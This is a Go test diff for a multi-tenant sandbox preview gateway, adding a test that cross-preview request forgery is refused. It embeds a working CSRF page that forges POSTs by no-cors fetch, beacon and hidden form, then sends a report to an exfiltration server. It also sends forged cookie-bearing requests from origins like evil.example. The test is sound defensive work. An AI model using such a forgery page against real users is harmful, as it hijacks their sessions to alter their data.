@@ -9,7 +9,9 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
 	"os/exec"
+	"path/filepath"
 	"strings"
 	"sync"
 	"testing"
@@ -256,6 +258,185 @@ func TestPreviewOriginAttack(t *testing.T) {
 		b.waitFor(t, 30*time.Second, "the page's WebSocket echo", `document.querySelector("#out").textContent === "echo:ping"`)
 		if o := b.eval(t, `self.origin`); o != "null" {
 			t.Fatalf("a path-mode preview runs in origin %q, want an opaque one", o)
+		}
+	})
+}
+
+// forgeryPage is a page of tenant B's preview that makes the browser of tenant A's user
+// send changes to A's preview, the three ways a page may without CORS (a no-cors fetch,
+// a beacon, a form posted into a frame), then reports to the exfiltration server.
+const forgeryPage = `<!doctype html><html><head><title>forgery</title></head><body><p id=out>waiting</p>
+<script>
+const cfg = CONFIG;
+const report = {where: location.host, origin: self.origin, steps: {}};
+(async () => {
+  try {
+    await fetch(cfg.victim + '/note', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'forged-fetch'});
+    report.steps.fetch = 'sent';
+  } catch (e) { report.steps.fetch = 'error: ' + e; }
+  try { report.steps.beacon = navigator.sendBeacon(cfg.victim + '/note', 'forged-beacon'); } catch (e) { report.steps.beacon = 'error: ' + e; }
+  await new Promise((resolve) => {
+    const frame = document.createElement('iframe');
+    frame.name = 'sink';
+    document.body.appendChild(frame);
+    frame.onload = () => { report.steps.form = 'loaded'; resolve(); };
+    const form = document.createElement('form');
+    form.method = 'POST'; form.action = cfg.victim + '/note'; form.target = 'sink';
+    const field = document.createElement('input');
+    field.name = 'x'; field.value = 'forged-form';
+    form.appendChild(field);
+    document.body.appendChild(form);
+    form.submit();
+    setTimeout(resolve, 10000);
+  });
+  await fetch(cfg.exfil + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
+  document.getElementById('out').textContent = 'done';
+})();
+</script></body></html>`
+
+// TestPreviewCrossPreviewForgery (issue 32, item 8): host-mode previews share one
+// registrable domain, so a page of tenant B's preview is same-site with tenant A's, and
+// the browser of A's user attaches A's SameSite=Lax preview cookie to the requests B's
+// page makes it send there. In Chromium, A's user opens A's preview (whose own page
+// POSTs to it and is served), then B's page, which POSTs to A's preview by fetch,
+// beacon and form: A's sandbox must record none of them. The gateway's answer (403
+// ACCESS::ORIGIN_REFUSED) is checked without a browser, and so is what it does not
+// concern: the API key and the access header, which no page makes a browser send.
+func TestPreviewCrossPreviewForgery(t *testing.T) {
+	const (
+		previewDomain = "sandgate-previews.test"
+		victimPort    = 8200
+		forgeryPort   = 8100
+	)
+	e := newEnv(t, startRedis(t), "SANDGATE_PREVIEW_DOMAIN="+previewDomain)
+	g := e.startGateway()
+	gatewayOrigin := "http://" + g.Addr
+	_, gwPort, _ := strings.Cut(g.Addr, ":")
+
+	tenantA, tenantB := g.createTenant("victim", nil), g.createTenant("attacker", nil)
+	_, adminA := g.issueKey(tenantA, "tenant-admin")
+	_, adminB := g.issueKey(tenantB, "tenant-admin")
+	gA, gB := g.asKey(adminA), g.asKey(adminB)
+	sandboxA := gA.createSandbox(map[string]any{})
+	sandboxB := gB.createSandbox(map[string]any{})
+
+	src, err := os.ReadFile(filepath.Join("testdata", "preview_victim.py"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	uploadFile(t, gA.agent(sandboxA), "/opt/preview_victim.py", src)
+	body, _ := json.Marshal(map[string]any{"command": fmt.Sprintf("python3 /opt/preview_victim.py %d", victimPort), "background": true})
+	resp := gA.agent(sandboxA).request("POST", "/command", bytes.NewReader(body), "application/json")
+	io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+	waitFor(t, 20*time.Second, func() bool {
+		return gA.do("GET", fmt.Sprintf("/sandboxes/%s/proxy/%d/", sandboxA, victimPort), nil).Status == 200
+	}, "the victim's preview to answer")
+	changes := func() string {
+		return stdoutOf(gA.agent(sandboxA).run("cat /tmp/changes 2>/dev/null; true"))
+	}
+	clearChanges := func() { gA.agent(sandboxA).run("rm -f /tmp/changes") }
+
+	victimHost := fmt.Sprintf("%s-%d.%s:%s", strings.ToLower(sandboxA), victimPort, previewDomain, gwPort)
+	signedLink := func(g *gateway, id string, port int) string {
+		_, _, l := g.endpoint(id, port, fmt.Sprintf("?expires=%d", time.Now().Add(10*time.Minute).Unix()))
+		u, err := url.Parse(l)
+		if err != nil || u.Query().Get("sandgate_token") == "" {
+			t.Fatalf("signed link %q", l)
+		}
+		return "http://" + u.Host + u.RequestURI()
+	}
+
+	t.Run("the gateway refuses a cookie's change from another origin", func(t *testing.T) {
+		defer clearChanges()
+		host, resp := exchange(t, gA, sandboxA, victimPort, "/")
+		if len(resp.Cookies()) != 1 {
+			t.Fatalf("exchange set cookies %v", resp.Cookies())
+		}
+		cookie := resp.Cookies()[0].Name + "=" + resp.Cookies()[0].Value
+		otherPreview := fmt.Sprintf("http://%s-%d.%s:%s", strings.ToLower(sandboxB), forgeryPort, previewDomain, gwPort)
+		for _, tt := range []struct {
+			name, method string
+			headers      map[string]string
+		}{
+			{"a POST from another preview", "POST", map[string]string{"Origin": otherPreview, "Sec-Fetch-Site": "same-site"}},
+			{"a POST from another preview, without Fetch Metadata", "POST", map[string]string{"Origin": otherPreview}},
+			{"a PUT from another site", "PUT", map[string]string{"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}},
+			{"a DELETE from an opaque origin", "DELETE", map[string]string{"Origin": "null"}},
+			{"an OPTIONS with the cookie from another preview", "OPTIONS", map[string]string{"Origin": otherPreview}},
+			{"a POST from the console's origin", "POST", map[string]string{"Origin": gatewayOrigin}},
+			{"a POST that says nothing of where it comes from", "POST", nil},
+		} {
+			t.Run(tt.name, func(t *testing.T) {
+				h := map[string]string{"Cookie": cookie}
+				for k, v := range tt.headers {
+					h[k] = v
+				}
+				r := g.raw(tt.method, host, "/note", strings.NewReader("forged"), h)
+				body := readAll(t, r)
+				var e struct{ Code, Message string }
+				if r.StatusCode != http.StatusForbidden || json.Unmarshal([]byte(body), &e) != nil || e.Code != "ACCESS::ORIGIN_REFUSED" || e.Message == "" {
+					t.Fatalf("%s: %d %s, want 403 ACCESS::ORIGIN_REFUSED", tt.name, r.StatusCode, body)
+				}
+			})
+		}
+		if got := changes(); got != "" {
+			t.Fatalf("A's preview recorded forged changes:\n%s", got)
+		}
+		for name, h := range map[string]map[string]string{
+			"the preview's own Origin":    {"Cookie": cookie, "Origin": "http://" + host},
+			"Sec-Fetch-Site: same-origin": {"Cookie": cookie, "Sec-Fetch-Site": "same-origin"},
+		} {
+			if r := g.raw("POST", host, "/note", strings.NewReader("own"), h); r.StatusCode != 200 {
+				t.Errorf("a POST with the cookie and %s: %d %s", name, r.StatusCode, readAll(t, r))
+			}
+		}
+		// The API key and the access header are no ambient credential: the Origin is not
+		// theirs to prove.
+		_, access, _ := gA.endpoint(sandboxA, victimPort, "")
+		for name, h := range map[string]map[string]string{
+			"the owner's API key": {"OPEN-SANDBOX-API-KEY": adminA, "Origin": otherPreview},
+			"the access header":   {"X-Sandgate-Access-Token": access["X-Sandgate-Access-Token"], "Origin": otherPreview},
+		} {
+			if r := g.raw("POST", host, "/note", strings.NewReader("header"), h); r.StatusCode != 200 {
+				t.Errorf("a POST with %s from another origin: %d %s", name, r.StatusCode, readAll(t, r))
+			}
+		}
+	})
+
+	t.Run("in Chromium, B's preview page forges nothing in A's", func(t *testing.T) {
+		clearChanges()
+		exfil := startExfil(t)
+		cfg, _ := json.Marshal(map[string]string{"victim": "http://" + victimHost, "exfil": exfil.URL})
+		uploadFile(t, gB.agent(sandboxB), "/opt/forgery/index.html", []byte(strings.Replace(forgeryPage, "CONFIG", string(cfg), 1)))
+		startStaticServer(t, gB, sandboxB, "/opt/forgery", forgeryPort)
+
+		b := previewBrowser(t, gatewayOrigin, previewDomain)
+		// A's user opens A's preview: the link leaves the cookie, and A's own page changes
+		// something in it, as it may.
+		b.navigate(t, signedLink(gA, sandboxA, victimPort))
+		b.waitFor(t, 30*time.Second, "the victim page's own POST", `document.querySelector("#out").textContent.startsWith("own")`)
+		if out := b.eval(t, `document.querySelector("#out").textContent`); out != "own:200" {
+			t.Fatalf("A's own page could not POST to its preview: %s", out)
+		}
+		if o := b.eval(t, `self.origin`); o != "http://"+victimHost {
+			t.Fatalf("the victim page's origin = %q, want http://%s", o, victimHost)
+		}
+		if got := changes(); strings.TrimSpace(got) != "POST own-page" {
+			t.Fatalf("A's preview recorded %q, want its own page's POST", got)
+		}
+
+		// Then B's page, in the same browser.
+		b.navigate(t, signedLink(gB, sandboxB, forgeryPort))
+		var reports []map[string]any
+		waitFor(t, 60*time.Second, func() bool {
+			reports, _ = exfil.got()
+			return len(reports) >= 1
+		}, "the forgery page's report")
+		t.Logf("the forgery page at %v (origin %v) did: %v", reports[0]["where"], reports[0]["origin"], reports[0]["steps"])
+		time.Sleep(2 * time.Second) // a beacon may leave after the report
+		if got := changes(); strings.TrimSpace(got) != "POST own-page" {
+			t.Errorf("B's page forged changes in A's preview; A's sandbox recorded:\n%s", got)
 		}
 	})
 }
